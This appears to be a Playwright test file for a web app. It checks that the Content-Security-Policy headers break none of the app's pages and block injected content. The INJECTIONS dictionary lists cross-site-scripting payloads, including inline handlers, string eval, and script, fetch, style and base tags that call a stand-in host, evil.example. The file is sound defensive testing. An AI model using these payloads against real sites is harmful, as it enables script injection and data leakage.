"""The policy in the headers, in a real browser: it is in no page's way, and in the way of what is put into one."""

import pytest
from playwright.sync_api import Page

from tests.browser.conftest import ON_A_DESKTOP
from tests.browser.team_ways import open_team_with_person
from tests.browser.visitor import Visitor

DOCUMENTS = ["help", "plain?view=self", "options", "agreement", "how-it-thinks", "conversation", "compare", "open"]

_SCRIPT = "const script = document.createElement('script'); document.head.append(script); "
INJECTIONS = {
    "an inline handler": "document.body.insertAdjacentHTML('beforeend', '<img src=./x onerror=\"window.ran = 1\">')",
    "an inline script": f"{_SCRIPT} script.text = 'window.ran = 1'",
    "a script of others": f"{_SCRIPT} script.onload = () => {{ window.ran = 1 }}; script.src = 'http://evil.example/'",
    "text that is run": "window.setTimeout('window.ran = 1')",
    "an image of others": "document.body.append(Object.assign(new Image(), { src: 'http://evil.example/x' }))",
    "a frame": "document.body.append(Object.assign(document.createElement('iframe'), { src: './help' }))",
    "an object": "document.body.append(Object.assign(document.createElement('embed'), { src: './icon.svg' }))",
    "a style that asks others": "const style = document.createElement('style');"
    " style.textContent = 'body::after { content: url(http://evil.example/x) }'; document.head.append(style)",
    "a request to others": "await fetch('http://evil.example/x')",
    "a base": "document.head.prepend(Object.assign(document.createElement('base'), { href: 'http://evil.example/' }))",
    "a worker": "new Worker('./guide.js')",
}


def refused(page: Page) -> dict[str, str]:
    """How each injection is stopped: by an error, or by the directive that the browser names; "" where it is not."""
    return {name: page.evaluate(_TRIED, script) for name, script in INJECTIONS.items()}


_TRIED = """async (script) => {
    const violations = [];
    const note = (event) => violations.push(event.effectiveDirective);
    document.addEventListener("securitypolicyviolation", note);
    try {
        await new (Object.getPrototypeOf(async () => {}).constructor)(script)();
    } catch (error) {
        violations.push(String(error));
    }
    for (let times = 0; times < 40 && !violations.length; times++) await new Promise((next) => setTimeout(next, 25));
    document.removeEventListener("securitypolicyviolation", note);
    return window.ran ? "" : (violations[0] ?? "");
}"""


@pytest.mark.deep
@ON_A_DESKTOP
def test_the_policy_is_in_no_pages_way(visitor: Visitor) -> None:
    for path in ["", *DOCUMENTS]:
        visitor.open(path)
    open_team_with_person(visitor)
    assert not [error for error in visitor.errors if "olicy" in error]


@ON_A_DESKTOP
@pytest.mark.parametrize(
    "path",
    [
        pytest.param("help", id="document"),
        pytest.param("", id="first page", marks=pytest.mark.deep),
        pytest.param("?view=self", id="guide"),
    ],
)
def test_what_is_put_into_a_page_does_not_run_and_asks_nobody(path: str, visitor: Visitor) -> None:
    visitor.open(path)
    assert [name for name, stopped in refused(visitor.page).items() if not stopped] == []
